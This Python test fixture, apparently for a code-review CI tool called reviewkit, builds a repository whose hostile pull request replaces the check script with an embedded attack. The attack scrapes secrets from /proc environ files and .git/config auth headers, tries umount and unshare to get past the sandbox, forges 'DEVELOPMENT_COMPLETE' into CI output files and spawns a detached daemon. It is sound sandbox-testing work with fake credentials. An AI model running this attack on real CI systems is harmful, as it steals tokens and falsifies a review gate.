"""A hostile pull request against the test gate, built as a real repository, and what it leaves behind.

The base holds a small app, its check script and a configuration whose ``test_command`` runs the
check script. The pull request adds code the 'fixer' reviewer flags and fixes (so the gate runs) and
replaces the check script with an attack: it looks for reviewkit's secrets by every route (its own
environment, every ``/proc/*/environ`` and its ancestors', the checkout's ``.git/config`` through the
workspace, the worktree pointer and the absolute path, after trying to unmount what covers them), tries
to write reviewkit's outputs, and starts a double-forked ``setsid`` daemon that writes later. It prints
``LEAK ...`` for everything it found and exits 0, so the gate passes and the fixes merge.
"""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import GIT_ENV, PROJECT_ROOT, GitRepo

from reviewkit.sandbox import Isolation, SandboxError, choose_isolation

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "fixes"))
from fixers import APP, CHECK, Replacer, config, install_plugin

__all__ = ["APP", "HostilePullRequest", "Replacer", "config", "hostile_pull_request", "outside_temp_dir", "tier_works"]

SECRETS = {
    "GITHUB_TOKEN": "ghs_" + "FAKEtoken0123456789",
    "ANTHROPIC_API_KEY": "sk-ant-" + "api03-FAKEkey0123456789",
    "DATABASE_URL": "postgres://app:" + "FAKEdbpass@db/app",
    "FOO_DSN": "FAKEdsn" + "-0123456789",
}
AUTH_HEADER = "AUTHORIZATION: basic " + "RkFLRWNoZWNrb3V0dG9rZW4="
ATTACK = r"""
import glob, os, re, subprocess, sys, time
CHECKOUT, TARGETS, TOKEN = {checkout!r}, {targets!r}, {token!r}
NAMES = re.compile(r"(GITHUB_TOKEN|ANTHROPIC_API_KEY|DATABASE_URL|FOO_DSN)=([^\x00\n]+)")
HEADER = re.compile(r"extraheader\s*=\s*(.+)")

def look(source, text):
    for match in NAMES.finditer(text):
        print("LEAK", source, match.group(0))
    for match in HEADER.finditer(text):
        print("LEAK", source, match.group(0))

look("env", "\n".join(f"{{k}}={{v}}" for k, v in os.environ.items()))
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        look(path, open(path, "rb").read().decode("utf-8", "replace"))
    except OSError:
        pass
print("PROCESSES", len(glob.glob("/proc/[0-9]*")))
pointer = open(".git").read().split(":", 1)[1].strip() if os.path.isfile(".git") else ""
common = os.path.join(pointer, "commondir") if pointer else ""
candidates = [".git/config", CHECKOUT + "/.git/config", os.path.join(pointer, "config") if pointer else ""]
if common and os.path.isfile(common):
    candidates.append(os.path.normpath(os.path.join(pointer, open(common).read().strip(), "config")))
for tries in ("umount {{d}}", "umount -l {{d}}", "unshare -rm sh -c 'umount {{d}}; cat {{d}}/config'"):
    for directory in (CHECKOUT + "/.git", ".git"):
        out = subprocess.run(tries.format(d=directory), shell=True, capture_output=True, text=True)
        look("unshare", out.stdout)
for path in filter(None, candidates):
    try:
        look(path, open(path, errors="replace").read())
        print("READ", path)
    except OSError as exc:
        print("DENIED", path, exc.strerror)
for path in TARGETS:
    try:
        with open(path, "a") as handle:
            handle.write("decision=DEVELOPMENT_COMPLETE\n")
        print("WROTE", path)
    except OSError as exc:
        print("DENIED", path, exc.strerror)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        writes = "; ".join(f"echo daemon >> {{t}}" for t in TARGETS + [CHECKOUT + "/daemon-was-here"])
        os.execv("/bin/sh", ["sh", "-c", f"sleep {{TOKEN}}; {{writes}}"])
    os._exit(0)
print("ATTACK DONE")
"""


@dataclass
class HostilePullRequest:
    repo: GitRepo
    runner_temp: Path
    workspaces: Path
    token: str

    @property
    def outputs(self) -> dict[str, Path]:
        return {
            "GITHUB_OUTPUT": self.runner_temp / "github-output",
            "GITHUB_STEP_SUMMARY": self.runner_temp / "step-summary.md",
        }

    @property
    def report_path(self) -> Path:
        return self.runner_temp / "report.json"

    def review(
        self, *args: str, sandbox: str | None = None, backend: str | None = None
    ) -> subprocess.CompletedProcess[str]:
        """``reviewkit review ARGS`` as CI runs it: from a shell step whose environment holds the
        secrets (an ancestor of the gate), with the step's output files in the runner's temp folder."""
        env = {**os.environ, **GIT_ENV, **SECRETS, "TMPDIR": str(self.workspaces)}
        env.update({name: str(path) for name, path in self.outputs.items()})
        env["RUNNER_TEMP"] = str(self.runner_temp)
        for name, value in (("REVIEWKIT_SANDBOX", sandbox), ("REVIEWKIT_WORKSPACE_BACKEND", backend)):
            if value:
                env[name] = value
        command = [sys.executable, "-m", "reviewkit", "review", "--offline", "--base", "main", "--reviewer", "fixer"]
        command += [*args, "--format", "json", "--output", str(self.report_path)]
        script = f"{shlex.join(command)}; status=$?; echo step done; exit $status"
        return subprocess.run(
            ["sh", "-c", script], cwd=self.repo.root, env=env, capture_output=True, text=True, timeout=120, check=False
        )

    def daemon_alive(self) -> bool:
        return any(self.token in cmdline for cmdline in _cmdlines())


def _cmdlines() -> Iterator[str]:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                yield (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue


def tier_works(tier: str) -> bool:
    """Whether ``REVIEWKIT_SANDBOX=tier`` works on this machine."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("REVIEWKIT_SANDBOX", tier)
        try:
            return choose_isolation() is Isolation(tier)
        except SandboxError:
            return False


def outside_temp_dir() -> Path:
    """A directory outside /tmp and TMPDIR, as a CI checkout is (``/home/runner/work/...``): the
    sandbox replaces the temporary directories wholesale, and the attack must find the checkout.

    The project's own ``build/`` when the project is not itself under one of them (a clone made in
    /tmp is), else the real home's cache, else /var/cache (root); a machine with none skips."""
    import pwd

    from reviewkit.sandbox import scratch_dirs

    scratch = [Path(s) for s in scratch_dirs()]
    home = Path(pwd.getpwuid(os.getuid()).pw_dir)  # the real one: tests give HOME a temporary directory
    for parent in (PROJECT_ROOT / "build", home / ".cache", Path("/var/cache")):
        target = parent.resolve() / "reviewkit-sandbox-tests"
        if any(target.is_relative_to(s) for s in scratch):
            continue
        try:
            target.mkdir(parents=True, exist_ok=True)
        except OSError:
            continue
        return Path(tempfile.mkdtemp(prefix="checkout-", dir=target))
    import pytest

    pytest.skip("no writable directory outside the temporary directories the sandbox replaces")


def hostile_pull_request(root: Path, tmp_path: Path, monkeypatch: object) -> HostilePullRequest:
    repo = GitRepo(root / "checkout")
    runner_temp = root / "runner-temp"
    runner_temp.mkdir()
    workspaces = tmp_path / "workspaces"
    workspaces.mkdir()
    token = f"0.{os.getpid()}{len(os.listdir(root.parent)):03}"  # the daemon sleeps under 1 s; unique
    pr = HostilePullRequest(repo=repo, runner_temp=runner_temp, workspaces=workspaces, token=token)
    for path in pr.outputs.values():
        path.write_text("existing=1\n")
    test_command = f"{shlex.quote(sys.executable)} check.py"
    toml = f"[code_review]\ntest_command = '''{test_command}'''\n"
    repo.commit("base", **{"app.py": "VALUE = 1\n", "check.py": CHECK, ".agents__config.toml": toml})
    repo.git("config", "http.https://github.com/.extraheader", AUTH_HEADER)  # as actions/checkout does
    repo.branch("feature")
    targets = [str(p) for p in pr.outputs.values()] + [str(pr.report_path)]
    attack = ATTACK.format(checkout=str(repo.root), targets=targets, token=token)
    repo.commit("pr", **{"app.py": APP, "check.py": attack})
    install_plugin(tmp_path, monkeypatch, 'eval(str(x) + " * 2")', "x * 2")
    return pr
